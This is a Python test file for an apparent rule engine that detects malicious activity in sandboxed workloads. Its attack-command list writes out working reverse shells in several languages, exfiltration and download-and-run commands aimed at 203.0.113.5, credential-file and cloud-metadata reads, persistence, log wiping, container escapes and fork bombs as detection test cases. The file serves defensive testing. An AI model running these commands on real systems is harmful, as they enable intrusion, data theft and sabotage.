"""The shipped rulesets: each category catches representative attacks, ordinary commands stay
quiet, the benign corpus keeps under 1% false positives, and evaluation is fast."""

from __future__ import annotations

import time
from pathlib import Path
from typing import Any

import pytest

import rollcage.rules.engine as engine_module
from rollcage.rules import RuleEngine, RuleSet

from .test_rules_support import command_event, event, exec_event

CORPUS = Path(__file__).resolve().parents[2] / "shared" / "corpora" / "benign-nl2bash.txt"


@pytest.fixture(scope="module")
def engine() -> RuleEngine:
    return RuleEngine(RuleSet.load())


def categories(engine: RuleEngine, ev: dict[str, Any]) -> set[str]:
    return {a.category for a in engine.evaluate(ev)}


ATTACK_COMMANDS = [
    # cryptomining
    (
        "cryptomining",
        "./xmrig -o pool.supportxmr.com:443 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -k --tls",  # noqa: E501
    ),
    ("cryptomining", "/tmp/.cache/kworker -o stratum+tcp://198.51.100.7:3333 -u wallet -p x"),
    ("cryptomining", "export POOL_URL=stratum+ssl://gulf.moneroocean.stream:20128"),
    ("cryptomining", "./syslogd --donate-level 1 -a rx/0 --url 10.1.1.1:3333"),
    (
        "cryptomining",
        "./update -o 203.0.113.9:14444 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD",  # noqa: E501
    ),
    (
        "cryptomining",
        'python3 -c \'import socket,json;s=socket.create_connection(("p",3333));s.send(json.dumps({"method":"mining.subscribe"}).encode())\'',  # noqa: E501
    ),
    ("cryptomining", "cpuminer -a yescrypt"),
    ("cryptomining", "curl -s https://api.supportxmr.com/miner/x/stats"),
    # tunnel
    ("tunnel", "ssh -R 8080:localhost:80 attacker@203.0.113.5"),
    ("tunnel", "ssh -fNR 2222:127.0.0.1:22 user@host"),
    ("tunnel", "ssh -N -L 5432:db.internal:5432 jump"),
    ("tunnel", "ssh -D 1080 -N user@host"),
    ("tunnel", "ssh -o RemoteForward=9000:localhost:9000 host"),
    ("tunnel", "ssh -o 'DynamicForward 1080' host"),
    ("tunnel", "ssh -w 0:0 root@host"),
    ("tunnel", "autossh -M 0 -f -N host"),
    ("tunnel", "socat TCP-LISTEN:8080,fork TCP:10.0.0.5:80"),
    ("tunnel", "ncat -l 8080 --sh-exec 'ncat 10.0.0.5 80'"),
    ("tunnel", "nc -l -p 8080 | nc 10.0.0.5 80"),
    ("tunnel", "./chisel client 203.0.113.5:8000 R:socks"),
    ("tunnel", "frpc -c frpc.ini"),
    ("tunnel", "ngrok tcp 22"),
    ("tunnel", "cloudflared tunnel --url http://localhost:8000"),
    ("tunnel", "gost -L=:8080 -F=socks5://203.0.113.5:1080"),
    ("tunnel", "iodine -f 203.0.113.5 t.example.com"),
    ("tunnel", "dns2tcpc -z t.example.com -r ssh -l 2222 203.0.113.5"),
    ("tunnel", "npx localtunnel --port 8000"),
    (
        "tunnel",
        'python3 -c \'import socket,threading\nl=socket.socket();l.bind(("0.0.0.0",9000));l.listen()\nc,_=l.accept();r=socket.socket();r.connect(("10.0.0.5",22))\nthreading.Thread(target=lambda:r.sendall(c.recv(4096))).start()\'',  # noqa: E501
    ),
    ("tunnel", "python3 -c 'import paramiko; t=c.get_transport(); t.request_port_forward(\"\", 8080)'"),
    # reverse shells
    ("reverse_shell", "nc -e /bin/sh 203.0.113.5 4444"),
    ("reverse_shell", "nc -nve /bin/bash 10.0.0.1 9001"),
    ("reverse_shell", "ncat 203.0.113.5 4444 --exec /bin/bash"),
    ("reverse_shell", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"),
    ("reverse_shell", "0<&196;exec 196<>/dev/tcp/203.0.113.5/4444; sh <&196 >&196 2>&196"),
    ("reverse_shell", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f"),
    (
        "reverse_shell",
        'python3 -c \'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("203.0.113.5",4444));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);import pty; pty.spawn("sh")\'',  # noqa: E501
    ),
    (
        "reverse_shell",
        'perl -e \'use Socket;$i="203.0.113.5";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};\'',  # noqa: E501
    ),
    (
        "reverse_shell",
        'ruby -rsocket -e \'f=TCPSocket.open("203.0.113.5",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\'',  # noqa: E501
    ),
    ("reverse_shell", 'php -r \'$sock=fsockopen("203.0.113.5",4444);exec("/bin/sh -i <&3 >&3 2>&3");\''),
    ("reverse_shell", "socat TCP:203.0.113.5:4444 EXEC:/bin/bash,pty,stderr"),
    ("reverse_shell", "socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/sh"),
    (
        "reverse_shell",
        'node -e \'var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var c=new net.Socket();c.connect(4444,"203.0.113.5")\'',  # noqa: E501
    ),
    ("reverse_shell", "awk 'BEGIN {s = \"/inet/tcp/0/203.0.113.5/4444\"; while(1){s |& getline c; print c |& s}}'"),
    # probing
    ("network_probe", "nmap -sS -p- 10.0.0.0/24"),
    ("network_probe", "masscan 10.0.0.0/8 -p80,443 --rate 10000"),
    ("network_probe", "zmap -p 22 10.0.0.0/16"),
    ("network_probe", "hping3 -S -p 80 --flood 10.0.0.1"),
    ("network_probe", "nc -zv 10.0.0.1 1-1024"),
    ("network_probe", "for p in $(seq 1 1024); do (echo > /dev/tcp/10.0.0.1/$p) 2>/dev/null && echo $p open; done"),
    ("network_probe", "for i in $(seq 1 254); do curl -s -m1 http://10.0.0.$i:8080/ ; done"),
    ("network_probe", "curl http://192.168.1.10:8500/v1/agent/self"),
    # credential access
    ("credential_access", "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("credential_access", "curl -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/"),
    ("credential_access", "cat ~/.aws/credentials"),
    ("credential_access", "cat ~/.ssh/id_rsa"),
    ("credential_access", "cat /proc/1/environ | tr '\\0' '\\n'"),
    ("credential_access", "strings /proc/*/environ"),
    ("credential_access", "cat /etc/shadow"),
    ("credential_access", "base64 .env"),
    ("credential_access", "grep -r 'BEGIN RSA PRIVATE KEY' /"),
    # persistence
    ("persistence", "(crontab -l; echo '* * * * * /tmp/x') | crontab -"),
    ("persistence", "echo '* * * * * root /tmp/x' > /etc/cron.d/x"),
    ("persistence", "echo /tmp/x | at now + 1 minute"),
    ("persistence", "systemctl enable backdoor.service"),
    ("persistence", "cp x.service /etc/systemd/system/"),
    ("persistence", "echo ssh-ed25519 AAAA attacker >> ~/.ssh/authorized_keys"),
    ("persistence", "echo 'curl -s http://203.0.113.5/x | sh' >> ~/.bashrc"),
    ("persistence", "echo /tmp/evil.so > /etc/ld.so.preload"),
    ("persistence", "export LD_PRELOAD=/tmp/hook.so"),
    # defense evasion
    ("defense_evasion", "history -c"),
    ("defense_evasion", "unset HISTFILE"),
    ("defense_evasion", "export HISTFILE=/dev/null"),
    ("defense_evasion", "rm -f ~/.bash_history"),
    ("defense_evasion", "rm -rf /var/log/*"),
    ("defense_evasion", "truncate -s 0 /var/log/auth.log"),
    ("defense_evasion", "pkill -f rollcage"),
    ("defense_evasion", "iptables -F"),
    ("defense_evasion", "echo Y3VybCBodHRwOi8vZXZpbC9zaCB8IHNo | base64 -d | sh"),
    # sandbox escape
    ("sandbox_escape", "mount -t proc proc /mnt/proc"),
    ("sandbox_escape", "mount /dev/sda1 /mnt"),
    ("sandbox_escape", "nsenter --target 1 --mount --uts --ipc --net --pid -- bash"),
    ("sandbox_escape", "unshare -r -m bash"),
    ("sandbox_escape", "chroot /host /bin/bash"),
    ("sandbox_escape", "ls /proc/1/root/etc"),
    ("sandbox_escape", "curl --unix-socket /var/run/docker.sock http://localhost/containers/json"),
    ("sandbox_escape", "docker run --privileged -v /:/host -it alpine chroot /host"),
    ("sandbox_escape", "echo /tmp/x > /sys/fs/cgroup/rdma/release_agent"),
    ("sandbox_escape", "insmod rootkit.ko"),
    ("sandbox_escape", "modprobe evil"),
    ("sandbox_escape", "gdb -p 1"),
    ("sandbox_escape", "strace -p 1234"),
    ("sandbox_escape", "capsh --print"),
    # resource abuse
    ("resource_abuse", ":(){ :|:& };:"),
    ("resource_abuse", "bomb(){ bomb|bomb& };bomb"),
    ("resource_abuse", "perl -e 'fork while fork'"),
    ("resource_abuse", "dd if=/dev/zero of=/tmp/big bs=1G count=100"),
    ("resource_abuse", "fallocate -l 500G /tmp/fill"),
    ("resource_abuse", "yes > /tmp/fill"),
    ("resource_abuse", "stress --cpu 64 --vm 8"),
    # exfiltration
    ("exfiltration", "curl -X POST -d @/etc/passwd https://203.0.113.5/upload"),
    ("exfiltration", "curl --upload-file secrets.tar https://transfer.sh/x"),
    ("exfiltration", "curl -F 'file=@data.db' http://203.0.113.5/"),
    ("exfiltration", "scp data.tar.gz user@203.0.113.5:/tmp/"),
    ("exfiltration", "nc 203.0.113.5 9000 < /etc/passwd"),
    ("exfiltration", "wget --post-file=/etc/passwd http://203.0.113.5/"),
    # ingress
    ("ingress_transfer", "curl -fsSL http://203.0.113.5/x.sh | sh"),
    ("ingress_transfer", "wget -qO- http://203.0.113.5/x | bash"),
    ("ingress_transfer", 'bash -c "$(curl -fsSL http://203.0.113.5/x)"'),
    ("ingress_transfer", "wget http://203.0.113.5/bot -O /tmp/bot && chmod +x /tmp/bot && /tmp/bot"),
    ("ingress_transfer", "curl -o /tmp/a http://203.0.113.5/a; chmod 755 /tmp/a"),
]


@pytest.mark.parametrize(
    ("category", "command"), ATTACK_COMMANDS, ids=[f"{c}-{i}" for i, (c, _) in enumerate(ATTACK_COMMANDS)]
)
def test_attack_commands_are_caught(engine: RuleEngine, category: str, command: str) -> None:
    assert category in categories(engine, command_event(command))


ATTACK_EVENTS = [
    ("cryptomining", exec_event(["/tmp/.x/xmrig", "-c", "config.json"])),
    ("cryptomining", exec_event(["/tmp/kthreadd", "--url", "stratum+tcp://pool:3333"], exe="/tmp/kthreadd")),
    (
        "cryptomining",
        event(
            "flow", dst_ip="198.51.100.7", dst_port=3333, protocol="stratum", decision="deny", indicators=["stratum"]
        ),
    ),
    (
        "cryptomining",
        event(
            "flow", dst_ip="198.51.100.7", dst_port=443, protocol="tls", domain="gulf.moneroocean.stream", indicators=[]
        ),
    ),
    ("cryptomining", event("dns", qname="pool.supportxmr.com", qtype="A", indicators=["mining_domain"])),
    (
        "cryptomining",
        event(
            "gpu",
            util=99,
            memory_bytes=1 << 30,
            pid=5,
            cmdline="/tmp/t-rex -a kawpow -o stratum+tcp://x:1",
            expected=False,
        ),
    ),
    ("tunnel", exec_event(["ssh", "-NR", "9000:localhost:22", "user@host"])),
    ("tunnel", exec_event(["/tmp/chisel", "client", "host:8000", "R:socks"], exe="/tmp/chisel")),
    ("tunnel", event("flow", dst_ip="203.0.113.5", dst_port=22, protocol="ssh", indicators=["outbound_ssh"])),
    ("reverse_shell", exec_event(["nc", "-e", "/bin/sh", "203.0.113.5", "4444"])),
    ("reverse_shell", exec_event(["sh", "-i"], pname="nc", pcmdline="nc -lvp 4444")),
    ("network_probe", exec_event(["nmap", "-sS", "10.0.0.0/24"])),
    ("network_probe", event("flow", dst_ip="10.0.0.7", dst_port=6379, protocol="unknown", indicators=["internal"])),
    ("network_probe", event("flow", dst_ip="10.0.0.7", dst_port=22, indicators=["scan"])),
    (
        "credential_access",
        event("flow", dst_ip="169.254.169.254", dst_port=80, protocol="http", indicators=["metadata"]),
    ),
    ("credential_access", exec_event(["cat", "/root/.aws/credentials"])),
    ("sandbox_escape", exec_event(["nsenter", "-t", "1", "-m"])),
    ("exfiltration", event("dns", qname="aGVsbG8.t.example.com", indicators=["dns_tunnel"])),
    (
        "gpu_diversion",
        event("gpu", util=10, memory_bytes=9, budget_bytes=8, pid=5, cmdline="python train.py", expected=True),
    ),
    ("gpu_diversion", event("gpu", util=10, memory_bytes=5, pid=6, cmdline="python other.py", expected=False)),
    ("resource_abuse", event("resource", cpu_pct=100, memory_bytes=1, pids=500)),
    ("policy_violation", event("flow", dst_ip="203.0.113.5", dst_port=443, protocol="tls", decision="deny")),
    ("ingress_transfer", exec_event(["/dev/shm/x"], exe="/dev/shm/x")),
]


@pytest.mark.parametrize(("category", "ev"), ATTACK_EVENTS, ids=[f"{c}-{i}" for i, (c, _) in enumerate(ATTACK_EVENTS)])
def test_sensor_events_are_caught(engine: RuleEngine, category: str, ev: dict[str, Any]) -> None:
    assert category in categories(engine, ev)


def test_sustained_gpu_diversion_and_miner_cpu() -> None:
    engine = RuleEngine(RuleSet.load())

    def at(s: int) -> str:
        return f"2026-01-01T00:{s // 60:02d}:{s % 60:02d}Z"

    gpu = [
        engine.evaluate(event("gpu", util=95, memory_bytes=0, pid=9, cmdline="x", expected=False, time=at(t)))
        for t in range(0, 12)
    ]
    assert any("Unexpected GPU workload" in [a.rule for a in alerts] for alerts in gpu)
    cpu = [engine.evaluate(event("resource", cpu_pct=99, memory_bytes=1, pids=5, time=at(t))) for t in range(0, 130, 5)]
    assert [a.rule for alerts in cpu for a in alerts] == ["Sustained full CPU load"]


BENIGN_COMMANDS = [
    "ssh -V",
    "git clone https://github.com/psf/requests.git",
    "pip install -r requirements.txt",
    "curl https://pypi.org/simple/requests/",
    "curl -sSL -o get-pip.py https://bootstrap.pypa.io/get-pip.py",
    "python -m http.server 8000",
    "python3 -m pytest -q tests/",
    "make -j8 && make install DESTDIR=/tmp/out",
    "docker ps",
    "ls -la ~/.ssh",
    "cat ~/.ssh/id_rsa.pub",
    "ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519 -N ''",
    "grep -rn TODO src/",
    "find . -name '*.py' -exec wc -l {} +",
    "tar czf backup.tgz project/",
    "npm install && npm run build",
    "cargo build --release",
    "export PATH=$HOME/.local/bin:$PATH",
    "crontab -l",
    "history | tail",
    "mount | grep /proc",
    "kill -9 1234",
    "dd if=/dev/zero of=test.img bs=1M count=100",
    "yes | apt-get install -y curl",
    "echo hello > /dev/null",
    "nc -h",
    "journalctl -u nginx --since today",
    "systemctl status nginx",
    "ps aux | grep python",
    "openssl s_client -connect pypi.org:443 < /dev/null",
]


@pytest.mark.parametrize("command", BENIGN_COMMANDS)
def test_ordinary_commands_do_not_alert_above_low(engine: RuleEngine, command: str) -> None:
    high = [a.rule for a in engine.evaluate(command_event(command)) if a.severity not in ("low", "info")]
    assert high == []


def test_netcat_port_check_is_low(engine: RuleEngine) -> None:
    alerts = engine.evaluate(command_event("nc -z localhost 8080"))
    assert [(a.rule, a.severity) for a in alerts] == [("Netcat port check", "low")]


BENIGN_EVENTS = [
    exec_event(["python3", "train.py"]),
    exec_event(["ssh", "-V"]),
    event(
        "flow", dst_ip="151.101.0.223", dst_port=443, protocol="tls", domain="pypi.org", decision="allow", indicators=[]
    ),
    event("dns", qname="pypi.org", qtype="A", decision="allow", indicators=[]),
    event("resource", cpu_pct=50, memory_bytes=1 << 30, pids=40),
    event("gpu", util=99, memory_bytes=1 << 30, budget_bytes=8 << 30, pid=5, cmdline="python train.py", expected=True),
]


@pytest.mark.parametrize("ev", BENIGN_EVENTS, ids=lambda e: e["type"])
def test_benign_sensor_events_are_quiet(engine: RuleEngine, ev: dict[str, Any]) -> None:
    assert engine.evaluate(ev) == []


def _corpus() -> list[str]:
    if not CORPUS.exists():
        pytest.skip(f"{CORPUS} not present")
    return [line.rstrip("\n") for line in CORPUS.read_text().splitlines() if line.strip()]


def test_benign_corpus_false_positive_rate_is_under_one_percent(engine: RuleEngine) -> None:
    lines = _corpus()
    flagged = [line for line in lines if engine.evaluate(command_event(line))]
    assert len(flagged) / len(lines) <= 0.01, flagged[:20]


def test_evaluation_speed(engine: RuleEngine) -> None:
    events = [command_event(line) for line in _corpus()[:5000]]
    events += [exec_event(["python3", "x.py", str(i)]) for i in range(2000)]
    events += [
        event("flow", dst_ip="198.51.100.1", dst_port=443, protocol="tls", decision="allow") for _ in range(2000)
    ]
    start = time.perf_counter()
    for ev in events:
        engine.evaluate(ev)
    rate = len(events) / (time.perf_counter() - start)
    # ~30k/s on a developer machine; the bar here leaves room for slow CI machines
    assert rate >= 5000, f"{rate:.0f} events/s"


def test_literal_gate_does_not_change_results(monkeypatch: pytest.MonkeyPatch) -> None:
    lines = _corpus()[::10] + [c for _, c in ATTACK_COMMANDS]
    gated = RuleEngine(RuleSet.load())
    monkeypatch.setattr(engine_module, "node_literals", lambda node, event_type: None)
    ungated = RuleEngine(RuleSet.load())
    assert not any(e[2] for e in ungated._index["command"].any)
    for line in lines:
        ev = command_event(line)
        assert [a.rule for a in gated.evaluate(ev)] == [a.rule for a in ungated.evaluate(ev)], line
